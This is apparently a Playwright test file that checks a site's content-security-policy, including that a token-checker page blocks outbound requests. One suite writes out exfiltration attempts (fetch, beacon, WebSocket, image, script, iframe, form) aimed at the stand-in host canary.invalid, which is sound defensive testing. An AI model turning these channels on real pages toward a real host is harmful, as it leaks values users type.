import type { Page } from 'playwright-core';
import { describe, expect, test } from 'vitest';
import { useBrowser } from './browser.ts';
import { builtPages } from './built-pages.ts';
import { sampled } from './sample.ts';

const openPage = useBrowser();
const pages = builtPages();

/** Runs code in the page, past its policy as the developer tools do, and tells which directives refused what it did. */
async function refusalsOf(page: Page, act: string): Promise<string[]> {
  const devTools = await page.context().newCDPSession(page);
  const expression = `new Promise((resolve) => {
    const refused = [];
    document.addEventListener('securitypolicyviolation', (event) => refused.push(event.effectiveDirective));
    ${act};
    setTimeout(() => resolve(refused), 500);
  })`;
  const { result } = await devTools.send('Runtime.evaluate', {
    expression,
    awaitPromise: true,
    returnByValue: true,
  });
  return result.value as string[];
}

test.for(pages.map(({ path, $ }) => ({ path, $ })))('the policy stands first in $path', ({ $ }) => {
  const [first, second] = $('head').children().get();
  expect(first?.attribs.charset).toBe('utf-8');
  expect(second?.attribs['http-equiv']).toBe('content-security-policy');
});

describe('nothing of the site itself is refused', () => {
  test.for(sampled(pages.map(({ path }) => path)))('%s', async (path) => {
    const page = await openPage('/favicon.svg', { locale: 'fr' });
    const refused: string[] = [];
    page.on('console', (message) => {
      if (/content security policy|refused/iu.test(message.text())) refused.push(message.text());
    });
    await page.goto(path, { waitUntil: 'networkidle' });
    expect(refused).toEqual([]);
    await page.context().close();
  });
});

describe('where values are typed, the browser refuses every way out that a policy can shut', () => {
  const ways = [
    {
      way: 'fetch',
      act: "fetch('https://canary.invalid/').catch(() => {})",
      directive: 'connect-src',
    },
    {
      way: 'beacon',
      act: "navigator.sendBeacon('https://canary.invalid/', 'x')",
      directive: 'connect-src',
    },
    {
      way: 'WebSocket',
      act: "try { new WebSocket('wss://canary.invalid/') } catch {}",
      directive: 'connect-src',
    },
    { way: 'image', act: "new Image().src = 'https://canary.invalid/?x'", directive: 'img-src' },
    {
      way: 'script',
      act: "const s = document.createElement('script'); s.src = 'https://canary.invalid/'; document.head.append(s)",
      directive: 'script-src-elem',
    },
    {
      way: 'inline script',
      act: "const s = document.createElement('script'); s.textContent = '1'; document.head.append(s)",
      directive: 'script-src-elem',
    },
    {
      way: 'stylesheet',
      act: "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'https://canary.invalid/'; document.head.append(l)",
      directive: 'style-src-elem',
    },
    {
      way: 'frame',
      act: "const f = document.createElement('iframe'); f.src = 'https://canary.invalid/'; document.body.append(f)",
      directive: 'frame-src',
    },
    {
      way: 'form',
      act: "const f = document.createElement('form'); f.action = 'https://canary.invalid/'; document.body.append(f); f.submit()",
      directive: 'form-action',
    },
  ];
  test.for(ways)('$way', async ({ act, directive }) => {
    const page = await openPage('/ja/token-checker/');
    const refused = await refusalsOf(page, act);
    expect(refused).toContain(directive);
  });
});

test('the search works on a page that may not connect', async () => {
  const page = await openPage('/de/token-checker/');
  await page.keyboard.press('Control+k');
  await page.getByRole('dialog').getByRole('searchbox').fill('Händlertoken');
  await page.getByRole('dialog').locator('.title').first().waitFor();
});
